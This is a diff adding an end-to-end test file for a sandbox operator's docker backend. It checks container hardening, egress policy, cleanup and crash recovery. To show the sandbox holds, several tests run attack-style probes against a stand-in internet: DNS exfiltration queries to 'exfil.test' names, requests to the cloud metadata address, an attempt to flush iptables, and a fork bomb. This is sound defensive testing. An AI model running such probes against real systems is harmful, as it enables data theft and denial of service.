@@ -1,0 +1,451 @@
+// The docker backend end to end: the real control plane holds the Sandboxes,
+// a real dockerd runs them (started when absent), and a stand-in internet in a
+// network namespace behind the host's NAT answers DNS, HTTP and HTTPS, logging
+// every connection so "cannot reach" is checked on the far side too.
+import { mkdtempSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import type Docker from "dockerode";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { ConditionReason, ConditionType } from "../../src/api/conditions.js";
+import { kubeConfig, testNamespace, userKubeconfigPath } from "../support/cluster.js";
+import {
+  docker,
+  ensureDockerd,
+  labelled,
+  OPERATOR_IMAGE,
+  SANDBOX_IMAGE,
+} from "../support/docker.js";
+import { type DockerInternet, INET, startDockerInternet } from "../support/docker-internet.js";
+import { eventually } from "../support/eventually.js";
+import { type RunningOperator, startOperator } from "../support/operator.js";
+import { REPO_ROOT } from "../support/paths.js";
+import { startProcess } from "../support/processes.js";
+import { condition, isReady, SandboxClient, type StoredSandbox } from "../support/sandboxes.js";
+
+const kc = kubeConfig();
+let ns: Awaited<ReturnType<typeof testNamespace>>;
+let sbx: SandboxClient;
+let engine: Docker;
+let internet: DockerInternet;
+let operator: RunningOperator | undefined;
+
+/** This file's installation: orphan collection never touches another's objects. */
+const OWNER = `test-${process.pid}`;
+const OWNER_LABEL = `sandboxing.dev/owner=${OWNER}`;
+const STALL_TIMEOUT = 5;
+
+const ZONE = {
+  "allowed.test": { A: [INET.allowed] },
+  "denied.test": { A: [INET.denied] },
+};
+
+const EGRESS = {
+  defaultAction: "deny" as const,
+  rules: [{ action: "allow" as const, target: "allowed.test", ports: [80, 443] }],
+};
+
+function start(): Promise<RunningOperator> {
+  return startOperator({
+    namespace: ns.name,
+    user: "operator-1",
+    defaultBackend: "docker",
+    egressImage: OPERATOR_IMAGE,
+    stallTimeoutSeconds: STALL_TIMEOUT,
+    docker: {
+      client: engine,
+      settings: { owner: OWNER, upstreamDns: INET.dns, publishAddress: "127.0.0.1" },
+      sweepIntervalMs: 2000,
+    },
+  });
+}
+
+beforeAll(async () => {
+  engine = await ensureDockerd();
+  internet = await startDockerInternet(ZONE);
+  ns = await testNamespace(kc, "docker");
+  sbx = new SandboxClient(kc, ns.name);
+  operator = await start();
+}, 600_000);
+
+afterAll(async () => {
+  await operator?.stop();
+  // Whatever a failed test left: nothing of this file survives it.
+  for (const kind of ["container", "network", "volume"] as const) {
+    for (const name of await labelled(kind, OWNER_LABEL)) {
+      await docker(kind === "container" ? ["rm", "-f", name] : [kind, "rm", name]);
+    }
+  }
+  await ns?.delete();
+  await internet?.destroy();
+});
+
+const waitRunning = (name: string, timeout = 60_000) =>
+  sbx.waitFor(
+    name,
+    (s) => {
+      isReady(s);
+      expect(s.status?.phase).toBe("Running");
+    },
+    timeout,
+  );
+
+const names = (s: StoredSandbox) => {
+  const base = `sbx.${ns.name}.${s.metadata.name}.${s.metadata.uid!.slice(0, 8)}`;
+  return { workload: base, sidecar: `${base}.egress`, network: `${base}.network` };
+};
+
+/** Run a shell command in the workload container as its own user (UID 1000, no capabilities). */
+const inWorkload = (s: StoredSandbox, script: string) =>
+  docker(["exec", names(s).workload, "sh", "-c", script], 30_000);
+
+const connectionsTo = (address: string) =>
+  internet.servers.lines.filter((l) => l.event === "connection" && l.local === address).length;
+
+describe("docker backend", () => {
+  let hello: StoredSandbox;
+
+  it("runs a sandbox as a hardened container behind its egress sidecar, and reports Ready", async () => {
+    await sbx.create("hello", {
+      image: SANDBOX_IMAGE,
+      command: ["sleep", "3600"],
+      network: { egress: EGRESS },
+    });
+    hello = await waitRunning("hello");
+    expect(hello.status).toMatchObject({ backend: "docker", observedGeneration: 1 });
+    expect(hello.metadata.finalizers).toContain("sandboxing.dev/cleanup");
+    expect(condition(hello, ConditionType.EgressReady)).toMatchObject({
+      status: "True",
+      reason: ConditionReason.EgressEnforced,
+    });
+
+    const n = names(hello);
+    const workload = await engine.getContainer(n.workload).inspect();
+    const sidecar = await engine.getContainer(n.sidecar).inspect();
+    expect(hello.status?.containerId).toBe(workload.Id);
+    expect(workload.Config.User).toBe("1000:1000");
+    expect(workload.Config.Labels).toMatchObject({
+      "sandboxing.dev/sandbox-uid": hello.metadata.uid,
+      "sandboxing.dev/namespace": ns.name,
+      "sandboxing.dev/sandbox": "hello",
+      "sandboxing.dev/generation": "1",
+    });
+    expect(workload.HostConfig).toMatchObject({
+      NetworkMode: `container:${sidecar.Id}`,
+      CapDrop: ["ALL"],
+      PidsLimit: 1024,
+      Memory: 2 ** 30,
+      NanoCpus: 1e9,
+      Tmpfs: { "/tmp": expect.stringContaining("nosuid") },
+    });
+    expect(workload.HostConfig.SecurityOpt).toContain("no-new-privileges");
+    expect(sidecar.HostConfig.CapAdd?.sort()).toEqual(["NET_ADMIN", "NET_RAW", "SETGID", "SETUID"]);
+    expect(sidecar.HostConfig.NetworkMode).toBe(n.network);
+    const network = await engine.getNetwork(n.network).inspect();
+    expect(network.Options?.["com.docker.network.bridge.enable_icc"]).toBe("false");
+
+    // No capabilities in the workload, its init or a process exec'd into it;
+    // the sidecar's process dropped its own after installing the lockdown.
+    const caps = await inWorkload(hello, "grep CapEff /proc/1/status /proc/self/status; id -u");
+    expect(caps.stdout).toMatch(/1\/status:CapEff:\s+0000000000000000/);
+    expect(caps.stdout).toMatch(/self\/status:CapEff:\s+0000000000000000/);
+    expect(caps.stdout.trim().split("\n").at(-1)).toBe("1000");
+    const sidecarCaps = await docker([
+      "exec",
+      n.sidecar,
+      "grep",
+      "-E",
+      "^(Uid|CapEff)",
+      "/proc/1/status",
+    ]);
+    expect(sidecarCaps.stdout).toMatch(/Uid:\s+1337/);
+    expect(sidecarCaps.stdout).toMatch(/CapEff:\s+0000000000000000/);
+
+    // The workspace belongs to the workload's user.
+    const ws = await inWorkload(hello, "touch /workspace/x && stat -c %u /workspace && pwd");
+    expect(ws.stdout.split("\n").slice(0, 2)).toEqual(["1000", "/workspace"]);
+  });
+
+  it("enforces the egress policy inside the sandbox, the same way as in a pod", async () => {
+    // -f: a refusal by the proxy (HTTP 403) is a failure too.
+    const curl = (args: string) => inWorkload(hello, `curl -fsS -m 5 ${args}`);
+    // Allowed: through the explicit proxy, and transparently on 80 (Host) and 443 (SNI).
+    expect((await curl("http://allowed.test/")).stdout).toContain(INET.allowed);
+    expect((await curl("--noproxy '*' http://allowed.test/")).stdout).toContain(INET.allowed);
+    expect((await curl("-k --noproxy '*' https://allowed.test/")).stdout).toContain(INET.allowed);
+
+    const deniedBefore = connectionsTo(INET.denied);
+    // A denied name, a direct IP, another port, the metadata address.
+    expect((await curl("--noproxy '*' http://denied.test/")).code).not.toBe(0);
+    expect((await curl("http://denied.test/")).stdout).not.toContain(INET.denied);
+    expect((await curl(`--noproxy '*' http://${INET.denied}:8080/`)).code).not.toBe(0);
+    expect((await curl("--noproxy '*' http://allowed.test:8080/")).code).not.toBe(0);
+    expect((await curl("--noproxy '*' -m 2 http://169.254.169.254/")).code).not.toBe(0);
+    // A denied IP with an allowed name in Host reaches the allowed name's address.
+    const fronted = await curl(`--noproxy '*' -H 'Host: allowed.test' http://${INET.denied}/`);
+    expect(fronted.stdout).toContain(INET.allowed);
+    expect(connectionsTo(INET.denied)).toBe(deniedBefore);
+
+    // No data leaves through DNS: not via Docker's embedded resolver, not via any server.
+    const resolved = await inWorkload(
+      hello,
+      `python3 -c "import socket; socket.getaddrinfo('secret-one.exfil.test', 80)"`,
+    );
+    expect(resolved.code).not.toBe(0);
+    // A hand-made query straight at the internet's DNS server is answered by the sidecar: NXDOMAIN (rcode 3).
+    const direct = await inWorkload(
+      hello,
+      `python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); ` +
+        `s.sendto(bytes.fromhex('abcd01000001000000000000') + b'\\x0asecret-two\\x05exfil\\x04test\\x00\\x00\\x01\\x00\\x01', ('${INET.dns}', 53)); print(s.recv(512)[3] & 15)"`,
+    );
+    expect(direct.stdout.trim(), direct.stderr).toBe("3");
+    const questions = internet.servers.lines.filter((l) => l.event === "dns").map((l) => l.name);
+    expect(questions).toContain("allowed.test");
+    expect(questions.filter((q) => String(q).includes("exfil"))).toEqual([]);
+
+    // Root without capabilities in the sandbox's network namespace cannot undo the lockdown.
+    for (const user of ["1000", "0"]) {
+      const flush = await docker([
+        "run",
+        "--rm",
+        "--network",
+        `container:${names(hello).sidecar}`,
+        "--cap-drop",
+        "ALL",
+        "--security-opt",
+        "no-new-privileges",
+        "--user",
+        user,
+        "--entrypoint",
+        "iptables",
+        OPERATOR_IMAGE,
+        "-F",
+        "OUTPUT",
+      ]);
+      expect(flush.code, flush.stderr).not.toBe(0);
+    }
+  });
+
+  it("delivers a changed name policy to the running sidecar without restarting the workload", async () => {
+    await sbx.patchSpec("hello", {
+      network: {
+        egress: {
+          ...EGRESS,
+          rules: [...EGRESS.rules, { action: "allow", target: "denied.test", ports: [80] }],
+        },
+      },
+    });
+    await eventually(
+      async () => {
+        const r = await inWorkload(hello, "curl -sS -m 3 http://denied.test/");
+        expect(r.stdout).toContain(INET.denied);
+      },
+      { timeout: 20_000 },
+    );
+    const after = await sbx.get("hello");
+    expect(after?.status?.containerId).toBe(hello.status?.containerId);
+    const events = await sbx.events("hello");
+    expect(events.map((e) => e.reason)).toContain("EgressPolicyUpdated");
+  });
+
+  it("keeps egress closed when the sidecar dies", async () => {
+    await docker(["kill", names(hello).sidecar]);
+    await sbx.waitFor("hello", (s) => {
+      expect(condition(s, ConditionType.EgressReady)?.status).toBe("False");
+      expect(condition(s, ConditionType.Ready)?.status).toBe("False");
+    });
+    const before = connectionsTo(INET.allowed);
+    expect((await inWorkload(hello, "curl -sS -m 3 http://allowed.test/")).code).not.toBe(0);
+    expect(
+      (await inWorkload(hello, `curl -sS -m 3 --noproxy '*' http://${INET.allowed}/`)).code,
+    ).not.toBe(0);
+    expect(connectionsTo(INET.allowed)).toBe(before);
+  });
+
+  it("reports exit codes: Succeeded with 0, Failed with the code", async () => {
+    await sbx.create("ok", { image: SANDBOX_IMAGE, command: ["sh", "-c", "echo done"] });
+    await sbx.create("exit3", { image: SANDBOX_IMAGE, command: ["sh", "-c", "exit 3"] });
+    await sbx.waitFor(
+      "ok",
+      (s) => expect(s.status).toMatchObject({ phase: "Succeeded", exitCode: 0 }),
+      60_000,
+    );
+    const failed = await sbx.waitFor(
+      "exit3",
+      (s) => expect(s.status).toMatchObject({ phase: "Failed", exitCode: 3, reason: "Failed" }),
+      60_000,
+    );
+    expect(failed.status?.message).toContain("code 3");
+  });
+
+  it("reports an OOM kill, and holds a fork bomb at the pids limit", async () => {
+    await sbx.create("oom", {
+      image: SANDBOX_IMAGE,
+      command: ["python3", "-c", "b = bytearray(512 * 1024 * 1024)"],
+      resources: { memory: "32Mi" },
+    });
+    await sbx.create("forkbomb", {
+      image: SANDBOX_IMAGE,
+      command: ["sh", "-c", "for i in $(seq 300); do sleep 600 & done; sleep 600"],
+      resources: { pids: 64 },
+    });
+    await sbx.waitFor(
+      "oom",
+      (s) => expect(s.status).toMatchObject({ phase: "Failed", reason: ConditionReason.OOMKilled }),
+      60_000,
+    );
+    const bomb = await waitRunning("forkbomb");
+    await eventually(async () => {
+      const top = await docker(["top", names(bomb).workload]);
+      const processes = top.stdout.trim().split("\n").length - 1;
+      expect(processes).toBeGreaterThan(32);
+      expect(processes).toBeLessThanOrEqual(64);
+    });
+    expect((await sbx.get("forkbomb"))?.status?.phase).toBe("Running");
+  });
+
+  it("publishes declared ports, and sandboxes cannot reach each other", async () => {
+    await sbx.create("web", {
+      image: SANDBOX_IMAGE,
+      command: ["python3", "-m", "http.server", "8080"],
+      ports: [{ name: "http", port: 8080 }],
+    });
+    const web = await waitRunning("web");
+    const endpoint = web.status?.endpoints?.[0];
+    expect(endpoint).toMatchObject({ name: "http", host: "127.0.0.1" });
+    await eventually(async () => {
+      const res = await fetch(`http://127.0.0.1:${endpoint!.port}/`);
+      expect(res.status).toBe(200);
+    });
+    // hello's sidecar is dead (previous test): use a fresh neighbour.
+    await sbx.create("neighbour", { image: SANDBOX_IMAGE, command: ["sleep", "3600"] });
+    const neighbour = await waitRunning("neighbour");
+    const ip = web.status?.ip;
+    expect(ip).toMatch(/^\d+\.\d+\.\d+\.\d+$/);
+    for (const args of [`--noproxy '*' http://${ip}:8080/`, `http://${ip}:8080/`]) {
+      const r = await inWorkload(neighbour, `curl -sS -m 3 -o /dev/null -w '%{http_code}' ${args}`);
+      expect(r.stdout).not.toBe("200");
+    }
+  });
+
+  it("says ImagePullFailed with the daemon's words, and Unsupported for pod-only fields", async () => {
+    await sbx.create("nopull", { image: "127.0.0.1:1/missing/image:1", command: ["true"] });
+    await sbx.create("secretref", {
+      image: SANDBOX_IMAGE,
+      env: [{ name: "TOKEN", valueFrom: { secretKeyRef: { name: "s", key: "k" } } }],
+    });
+    const failed = await sbx.waitFor(
+      "nopull",
+      (s) => {
+        const ready = condition(s, ConditionType.Ready);
+        expect(ready).toMatchObject({ status: "False", reason: ConditionReason.ImagePullFailed });
+        expect(ready?.message).toMatch(/127\.0\.0\.1:1.*(refused|connect)/);
+      },
+      30_000,
+    );
+    expect(failed.status?.phase).toMatch(/Pending|Failed/);
+    // Stalled longer than the stall timeout: failed, not retried forever.
+    await sbx.waitFor("nopull", (s) => expect(s.status?.phase).toBe("Failed"), 30_000);
+    await sbx.waitFor("secretref", (s) =>
+      expect(condition(s, ConditionType.Invalid)).toMatchObject({
+        status: "True",
+        reason: ConditionReason.Unsupported,
+        message: expect.stringContaining("valueFrom"),
+      }),
+    );
+  });
+
+  it("removes containers, network and volume when the Sandbox is deleted", async () => {
+    const web = (await sbx.get("web"))!;
+    const uidLabel = `sandboxing.dev/sandbox-uid=${web.metadata.uid}`;
+    expect(await labelled("container", uidLabel)).toHaveLength(2);
+    await sbx.delete("web");
+    await sbx.waitGone("web");
+    for (const kind of ["container", "network", "volume"] as const) {
+      expect(await labelled(kind, uidLabel), kind).toEqual([]);
+    }
+  });
+
+  it("a controller killed mid-create leaves no duplicate and no orphan once restarted", async () => {
+    await operator?.stop();
+    operator = undefined;
+    const cli = startProcess(
+      "docker-controller",
+      process.execPath,
+      [
+        join(REPO_ROOT, "dist/cli/main.js"),
+        "controller",
+        `--kubeconfig=${userKubeconfigPath("operator-1")}`,
+        `--namespaces=${ns.name}`,
+        "--default-backend=docker",
+        "--leader-elect=false",
+        `--egress-image=${OPERATOR_IMAGE}`,
+        `--docker-dns=${INET.dns}`,
+        `--docker-owner=${OWNER}`,
+        "--metrics-bind-address=0",
+        "--health-probe-bind-address=0",
+      ],
+      mkdtempSync(join(tmpdir(), "docker-controller-")),
+    );
+    await sbx.create("crash", { image: SANDBOX_IMAGE, command: ["sleep", "3600"] });
+    // Kill it the moment the sidecar exists, before the workload does.
+    await eventually(
+      async () => {
+        expect(await labelled("container", `sandboxing.dev/sandbox=crash`)).not.toEqual([]);
+      },
+      { timeout: 30_000, interval: 20 },
+    );
+    cli.child.kill("SIGKILL");
+    // And an orphan: a lone sidecar whose Sandbox never existed.
+    await docker([
+      "create",
+      "--name",
+      `sbx.${ns.name}.ghost.00000000.egress`,
+      "--label",
+      "app.kubernetes.io/managed-by=sandbox-operator",
+      "--label",
+      OWNER_LABEL,
+      "--label",
+      `sandboxing.dev/namespace=${ns.name}`,
+      "--label",
+      "sandboxing.dev/sandbox=ghost",
+      "--label",
+      "sandboxing.dev/sandbox-uid=00000000-0000-0000-0000-000000000000",
+      "--label",
+      "sandboxing.dev/role=egress",
+      OPERATOR_IMAGE,
+    ]);
+
+    operator = await start();
+    const crash = await waitRunning("crash");
+    const uidLabel = `sandboxing.dev/sandbox-uid=${crash.metadata.uid}`;
+    const n = names(crash);
+    expect(await labelled("container", uidLabel)).toEqual([n.workload, n.sidecar].sort());
+    expect(await labelled("network", uidLabel)).toEqual([n.network]);
+    expect(await labelled("volume", uidLabel)).toHaveLength(1);
+    await eventually(
+      async () => expect(await labelled("container", "sandboxing.dev/sandbox=ghost")).toEqual([]),
+      { timeout: 15_000 },
+    );
+  });
+
+  it("creates and deletes 20 sandboxes concurrently and leaves nothing behind", async () => {
+    const batch = Array.from({ length: 20 }, (_, i) => `batch-${i}`);
+    await Promise.all(
+      batch.map((name) =>
+        sbx.create(name, {
+          image: SANDBOX_IMAGE,
+          command: ["sleep", "3600"],
+          resources: { memory: "64Mi" },
+        }),
+      ),
+    );
+    await Promise.all(batch.map((name) => waitRunning(name, 240_000)));
+    await Promise.all(batch.map((name) => sbx.delete(name)));
+    await Promise.all(batch.map((name) => sbx.waitGone(name, 120_000)));
+    for (const kind of ["container", "network", "volume"] as const) {
+      const left = (await labelled(kind, OWNER_LABEL)).filter((x) => x.includes(".batch-"));
+      expect(left, kind).toEqual([]);
+    }
+  }, 420_000);
+});
